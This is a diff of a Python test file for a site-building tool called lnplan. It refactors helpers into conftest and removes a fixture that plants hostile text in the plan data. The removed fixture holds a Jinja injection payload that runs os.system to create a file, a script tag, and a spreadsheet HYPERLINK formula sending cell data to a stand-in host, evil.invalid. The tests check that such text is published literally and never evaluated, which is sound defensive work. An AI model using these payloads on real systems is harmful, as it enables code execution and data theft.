@@ -13,7 +13,6 @@ import re
 import shutil
 import signal
 import subprocess
-import sys
 import time
 from contextlib import contextmanager
 from html import unescape
@@ -22,21 +21,11 @@ from pathlib import Path
 
 import pytest
 
-from conftest import ROOT, SITE_URL
+from conftest import FORMULA, PY, ROOT, SITE_URL, engines_of, invoke, validate
 from lnplan import checksite, releases, safefiles, yamlio
 from lnplan.__main__ import main
 from lnplan.reading import checks
 from lnplan.reading.files import PLAN_DIR
-
-PY = sys.executable
-
-
-def run(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
-    return subprocess.run([PY, "-m", *args], cwd=ROOT, capture_output=True, text=True, timeout=timeout)
-
-
-def validate(plan_dir: Path) -> subprocess.CompletedProcess:
-    return run("lnplan", "validate", "--plan", str(plan_dir))
 
 
 def assert_clean_failure(r: subprocess.CompletedProcess, *expected: str) -> None:
@@ -203,7 +192,7 @@ def test_fmt_refuses_what_it_would_lose_and_writes_nothing(plan_copy, old, new, 
     other = plan_copy.dir / "places.yaml"  # a file fmt would otherwise rewrite
     other.write_text(other.read_text(encoding="utf-8").replace("\n  ", "\n"), encoding="utf-8")
     before = other.read_text(encoding="utf-8")
-    r = run("lnplan", "fmt", "--plan", str(plan_copy.dir))
+    r = invoke("lnplan", "fmt", "--plan", str(plan_copy.dir))
     assert_clean_failure(r, f"units.yaml:{line_of(units, needle)}:", message, "nothing was formatted")
     assert plan_copy.read("units.yaml") == units and other.read_text(encoding="utf-8") == before
 
@@ -214,7 +203,7 @@ def test_fmt_refuses_what_it_would_lose_and_writes_nothing(plan_copy, old, new, 
 @pytest.mark.parametrize("out", ["plan", "docs", ".", "docs/site"])
 def test_build_refuses_an_output_directory_that_holds_sources(out):
     before = sorted(p.relative_to(ROOT) for p in (ROOT / "plan").rglob("*"))
-    r = run("lnplan.build", "--out", str(ROOT / out))
+    r = invoke("lnplan.build", "--out", str(ROOT / out))
     assert_clean_failure(r, "refused: --out")
     assert sorted(p.relative_to(ROOT) for p in (ROOT / "plan").rglob("*")) == before
     assert (ROOT / "docs" / "assets" / "extra.css").is_file()
@@ -224,7 +213,7 @@ def test_build_refuses_a_directory_it_did_not_write(tmp_path):
     out = tmp_path / "mine"
     out.mkdir()
     (out / "thesis.tex").write_text("months of work", encoding="utf-8")
-    r = run("lnplan.build", "--out", str(out))
+    r = invoke("lnplan.build", "--out", str(out))
     assert_clean_failure(r, "was not written by a build")
     assert (out / "thesis.tex").read_text(encoding="utf-8") == "months of work"
 
@@ -291,83 +280,16 @@ def test_a_text_too_long_for_a_spreadsheet_cell_is_never_cut(plan):
 # ---- interrupted, killed and concurrent builds -------------------------------------------------------------------
 
 
-def _engines(marker: str) -> list[int]:
-    """Processes whose command line mentions marker (an engine building into a given temporary directory)."""
-    pids = []
-    for d in Path("/proc").iterdir():
-        if d.name.isdigit():
-            try:
-                cmd = (d / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
-            except OSError:
-                continue
-            if marker in cmd and "mkdocs" in cmd and int(d.name) != os.getpid():
-                pids.append(int(d.name))
-    return pids
-
-
-def _start(out: Path) -> subprocess.Popen:
-    return subprocess.Popen(
-        [PY, "-m", "lnplan.build", "--out", str(out)],
-        cwd=ROOT,
-        stdout=subprocess.PIPE,
-        stderr=subprocess.PIPE,
-        text=True,
-        start_new_session=True,
-    )
-
-
-def _temp_with_engines(parent: Path, pid: int, timeout: float = 180) -> Path:
-    """Wait until the build `pid` has its temporary directory and both engines running; return the directory."""
-    deadline = time.monotonic() + timeout
-    while time.monotonic() < deadline:
-        for d in parent.glob(".build-*"):
-            owner = d / "owner.pid"
-            if owner.exists() and owner.read_text() == str(pid) and len(_engines(str(d))) == 2:
-                return d
-        time.sleep(0.2)
-    raise AssertionError("the build never started its engines")
-
-
-@pytest.fixture(scope="module")
-def build_runs(tmp_path_factory):
-    """One killed build (SIGKILL), then two builds at once into the same parent, one of them interrupted (Ctrl-C)."""
-    parent = tmp_path_factory.mktemp("builds")
-    killed = _start(parent / "killed")
-    killed_tmp = _temp_with_engines(parent, killed.pid)
-    killed.kill()
-    killed.wait()
-
-    interrupted_out = parent / "interrupted"
-    interrupted_out.mkdir()
-    (interrupted_out / ".lnplan-site").write_text("")
-    (interrupted_out / "index.html").write_text("the previous site")
-    finished = _start(parent / "finished")
-    interrupted = _start(interrupted_out)
-    interrupted_tmp = _temp_with_engines(parent, interrupted.pid)
-    os.killpg(interrupted.pid, signal.SIGINT)  # what Ctrl-C in a terminal does
-    i_out, i_err = interrupted.communicate(timeout=120)
-    f_out, f_err = finished.communicate(timeout=900)
-    time.sleep(1)
-    return {
-        "parent": parent,
-        "killed_tmp": killed_tmp,
-        "interrupted": (interrupted.returncode, i_out + i_err),
-        "interrupted_tmp": interrupted_tmp,
-        "interrupted_out": interrupted_out,
-        "finished": (finished.returncode, f_out + f_err),
-    }
-
-
 def test_ctrl_c_exits_130_in_one_line_and_leaves_the_site(build_runs):
     code, output = build_runs["interrupted"]
     assert code == 130 and "interrupted" in output and "Traceback" not in output
     assert (build_runs["interrupted_out"] / "index.html").read_text() == "the previous site"
     assert not build_runs["interrupted_tmp"].exists()
-    assert _engines(str(build_runs["interrupted_tmp"])) == []
+    assert engines_of(str(build_runs["interrupted_tmp"])) == []
 
 
 def test_a_killed_build_leaves_no_engine_and_the_next_build_removes_its_files(build_runs):
-    assert _engines(str(build_runs["killed_tmp"])) == []  # the engines died with their build
+    assert engines_of(str(build_runs["killed_tmp"])) == []  # the engines died with their build
     assert not build_runs["killed_tmp"].exists()  # removed by the next build in the same place
 
 
@@ -379,83 +301,6 @@ def test_two_builds_at_once_still_work(build_runs):
 
 
 # ---- hostile text: published literally, never evaluated ------------------------------------------------------------
-
-
-def payload(tag: str, proof: Path) -> str:
-    """A spreadsheet formula start, template syntax that would print 49, run a shell command (creating `proof`) and
-    drop text if evaluated, and markup that would run a script or make text bold if it were not escaped."""
-    return (
-        f"={tag} {{{{ 7*7 }}}} {{% if true %}}IF{{% endif %}} {{# hidden #}} "
-        f"{{{{ cycler.__init__.__globals__.os.system('touch {proof}') }}}} <script>alert(1)</script> <b>bold</b> & |x|"
-    )
-
-
-FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"Click me")'
-
-
-@pytest.fixture(scope="module")
-def hostile(tmp_path_factory):
-    root = tmp_path_factory.mktemp("hostile")
-    proof = root / "code-ran"
-    plan_dir = root / "plan"
-    shutil.copytree(PLAN_DIR, plan_dir)
-    texts = {}
-
-    def edit(rel, change):
-        path = plan_dir / rel
-        data, _ = yamlio.load(path.read_text(encoding="utf-8"))
-        change(data)
-        path.write_text(yamlio.dump(data), encoding="utf-8")
-
-    def put(obj, key, tag):
-        texts[tag] = obj[key] = payload(tag, proof)
-
-    def chapter2(d):
-        put(d["title"], "en", "CH-EN")  # page title and navigation of every English page
-        put(d["title"], "zh", "CH-ZH")
-        put(d["sections"][0]["title"], "en", "SEC-EN")  # a heading and breadcrumbs
-        item = d["sections"][0]["items"][0]
-        put(item["title"], "en", "ITEM-EN")  # the measure page's h1 and title, task cards
-        put(item["text"], "en", "TEXT-EN")  # description, JSON-LD, body
-        item["text"]["en"] = texts["TEXT-EN"] = "@SUM(1+1) " + item["text"]["en"]  # a formula start in CSV
-
-    edit("chapters/2.yaml", chapter2)
-
-    def units(d):
-        u = {x["id"]: x for x in d["units"]}
-        u["commerce"]["name"]["en"] = FORMULA
-        put(u["development-and-reform-commission"]["name"], "en", "UNIT-EN")  # tables, unit page title
-        put(u["development-and-reform-commission"]["full_name"], "zh", "UNITFULL-ZH")  # title attributes
-
-    edit("units.yaml", units)
-    edit("places.yaml", lambda d: put(next(p for p in d["places"] if p["id"] == "dalian")["name"], "en", "PLACE-EN"))
-    edit("targets.yaml", lambda d: put(d["targets"][0]["metric"], "en", "METRIC-EN"))
-    edit("glossary.yaml", lambda d: put(d["terms"][0]["note"], "en", "NOTE-EN"))
-    edit(
-        "document.yaml",
-        lambda d: (put(d["preamble"], "en", "PREAMBLE-EN"), put(d["notice"]["text"], "zh", "NOTICE-ZH")),
-    )
-
-    # The payloads replace texts that translation and data corrections describe; keep only the source corrections.
-    def corrections(d):
-        d["corrections"] = [r for r in d["corrections"] if r["kind"] == "source"]
-        put(d["corrections"][0]["reason"], "en", "CORR-EN")  # the corrections page's table
-
-    edit("corrections.yaml", corrections)
-    edit("places.yaml", lambda d: put(d["sources"][0]["title"], "en", "SOURCE-EN"))  # the map's list of sources
-    edit(
-        "place_names.yaml", lambda d: put(next(n for n in d["names"] if n["form"] == "桓仁")["name"], "en", "FORM-EN")
-    )  # card reasons
-    edit("releases.yaml", lambda d: put(d["releases"][-1]["summary"], "en", "RELEASE-EN"))  # changes page and feed
-    # The releases record the corrections they contain: keep those that are still there.
-    edit(
-        "releases.yaml",
-        lambda d: [r.__setitem__("corrections", [c for c in r["corrections"] if c <= "C005"]) for r in d["releases"]],
-    )
-    out = root / "site"
-    r = run("lnplan.build", "--plan", str(plan_dir), "--out", str(out), timeout=900)
-    assert r.returncode == 0, r.stderr
-    return {"site": out, "proof": proof, "texts": texts}
 
 
 class _Parts(HTMLParser):
